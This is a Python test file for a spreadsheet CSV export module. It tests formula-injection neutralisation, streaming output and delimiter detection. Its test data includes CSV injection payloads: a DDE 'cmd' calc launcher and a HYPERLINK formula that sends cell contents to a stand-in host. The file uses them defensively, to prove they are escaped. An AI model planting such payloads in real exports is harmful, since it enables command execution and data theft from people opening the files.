"""Cells that cannot run as formulas, rows that stream, and separators that are recognised."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from organisation.kernel.spreadsheet import csv_rows, safe_cell, sniff_delimiter

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        '=HYPERLINK("https://voorbeeld.nl?"&A1;"klik")',
        "=cmd|' /C calc'!A0",
        "+31612345678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\xa0=1+1",
        "'=1+1",
        '"=1+1"',
        "＝1+1",
    ],
)
def test_text_that_could_be_a_formula_is_made_text(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("text", ["", "gewone tekst", "a=b", "10-12", "mail@voorbeeld.nl", "'s ochtends", "€ 5"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "1"),
        (False, "0"),
        (-5, "-5"),
        (Decimal("-1840.50"), "-1840,50"),
        (Decimal("1E+3"), "1000"),
        (0.25, "0,25"),
        (1e-7, "0,0000001"),
        (date(2026, 11, 20), "2026-11-20"),
        (datetime(2026, 6, 30, 22, 30, tzinfo=UTC), "2026-07-01 00:30"),
    ],
)
def test_numbers_and_dates_are_written_plainly(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_a_moment_without_a_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="time zone"):
        safe_cell(datetime.fromisoformat("2026-06-30T12:00:00"))


@given(st.text())
def test_no_text_ever_starts_a_formula(text: str) -> None:
    assert not safe_cell(text).lstrip(" ").startswith(STARTS)
    assert safe_cell(text).endswith(text)


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\r\n\0")), min_size=1)))
def test_what_is_written_is_read_back_the_same(rows: list[list[str]]) -> None:
    text = "".join(csv_rows(rows))
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";")) == [[safe_cell(c) for c in r] for r in rows]


def test_the_text_has_semicolons_and_no_byte_order_mark() -> None:
    written = "".join(csv_rows([("team", "aantal"), ("Noord; wijk", 12), ('zei "ja"', None)]))
    assert written == 'team;aantal\r\n"Noord; wijk";12\r\n"zei ""ja""";\r\n'
    assert not written.encode().startswith(b"\xef\xbb\xbf")


def test_a_row_is_made_only_when_it_is_asked_for() -> None:
    asked: list[int] = []

    def rows() -> Iterator[tuple[int]]:
        for n in range(1_000_000):
            asked.append(n)
            yield (n,)

    lines = csv_rows(rows())
    assert [next(lines), next(lines)] == ["0\r\n", "1\r\n"]
    assert asked == [0, 1]


@pytest.mark.parametrize(
    ("sample", "delimiter"),
    [
        ("a;b;c\n1;2;3\n", ";"),
        ("a,b,c\n1,2,3\n", ","),
        ("a\tb\n1\t2\n", "\t"),
        ("a|b|c\r\n1|2|3\r\n", "|"),
        ("bedrag;reden\n1,50;duur, te duur\n2,50;nood\n", ";"),
        ('naam,reden\n"x","a;b;c"\n"y","d;e"\n', ","),
        ("\ufeffa;b\r1;2\r", ";"),
        ('a;b\n"twee\nregels";2\n\n3;4\n', ";"),
        ("alleen een kop\n", ";"),
        ("", ";"),
    ],
)
def test_the_separator_is_recognised(sample: str, delimiter: str) -> None:
    assert sniff_delimiter(sample) == delimiter


@given(st.sampled_from(";,\t|"), st.integers(2, 8), st.integers(1, 40))
def test_any_regular_file_is_recognised(delimiter: str, columns: int, rows: int) -> None:
    sample = "\n".join([delimiter.join(f"veld {n}" for n in range(columns))] * rows)
    assert sniff_delimiter(sample) == delimiter


@given(st.text())
def test_any_text_gets_an_answer(sample: str) -> None:
    assert sniff_delimiter(sample) in {";", ",", "\t", "|"}


def test_a_cut_off_sample_is_no_trouble() -> None:
    assert sniff_delimiter('a;b\n1;"' + "x" * 200_000) == ";"
